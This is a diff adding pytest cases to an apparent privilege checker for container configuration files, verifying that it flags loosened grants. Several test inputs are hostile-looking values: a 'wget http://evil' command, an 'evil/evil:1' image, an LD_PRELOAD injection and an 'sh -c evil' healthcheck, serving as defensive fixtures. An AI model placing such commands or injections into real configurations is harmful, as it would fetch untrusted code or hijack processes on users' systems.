@@ -115,3 +115,47 @@ def test_what_is_covered_is_covered_by_anything_wider(kind: str, low: int, more:
     assert one.is_covered_by(other) is (kind == "memory")
     assert not every.is_covered_by(other)
     assert not one.is_covered_by(Grant(subject="db", kind=kind, value=EVERY))
+
+
+OPEN = CLOSED + '[service.web]\nimage = "docker.io/library/python:3"\ncommand = "python -m http.server"\n'
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "line"),
+    [
+        ("python -m http.server", "wget http://evil", "service.web: the command `/bin/sh -c 'wget http://evil'`"),
+        ("library/python:3", "evil/evil:1", "image service.web: the image evil/evil:1"),
+        ("command", "env = { LD_PRELOAD = '/x' }\ncommand", "service.web: the variable LD_PRELOAD"),
+        ("command", "health = { command = ['sh', '-c', 'evil'] }\ncommand", "service.web: the command `sh -c evil`"),
+    ],
+)
+def test_issue9_a2_what_a_container_with_a_network_runs_is_more(old: str, new: str, line: str):
+    """Otherwise whoever is inside the closed one reaches the network through another one of the file."""
+    assert added(OPEN, OPEN.replace(old, new)) == (line,)
+
+
+def test_issue9_a2_a_published_stage_and_a_secret_of_a_process_are_more():
+    text = CLOSED + '[image]\nfrom = "dev"\n[image.process.web]\ncommand = "true"\nports = [80]\n[stage.test]\n'
+    more = text.replace("ports", 'secrets = { T = "env:T" }\nports') + 'publish = ["0.0.0.0:80:80"]\n'
+    assert added(text, more) == ("image.process.web: the secret from env:T", "stage.test: the host port 0.0.0.0:80/tcp")
+
+
+def test_issue9_a2_a_bind_of_the_project_is_the_project():
+    service = '[service.x]\nrecipe = "redis"\nisolation = "isolated"\n'
+    bind = 'mounts = [{ source = ".", target = "/x", read_only = false }]\n'
+    assert grants.is_closed(resolved_file(service + bind))
+    assert not grants.is_closed(resolved_file(service + bind.replace("false", "true")))
+
+
+def test_issue9_a2_other_vars_loosen_nothing_unless_they_were_accepted():
+    tight, loose = (grants.grants(resolved_file(text)) for text in (CLOSED, CLOSED.replace('"isolated"', "{}")))
+    more = grants.loosened(loose, tight)
+    assert Grant(subject="dev", kind="network", value="project") in {_plain(grant) for grant in more}
+    accepted = (*tight, *grants.by_vars(more))
+    assert grants.loosened(loose, accepted) == ()
+    assert grants.added(loose, accepted) == more, "the file itself still may not"
+    assert set(grants.narrowed(tight, accepted)) >= set(grants.by_vars(more))
+
+
+def _plain(grant: Grant) -> Grant:
+    return Grant(subject=grant.subject, kind=grant.kind, value=grant.value)
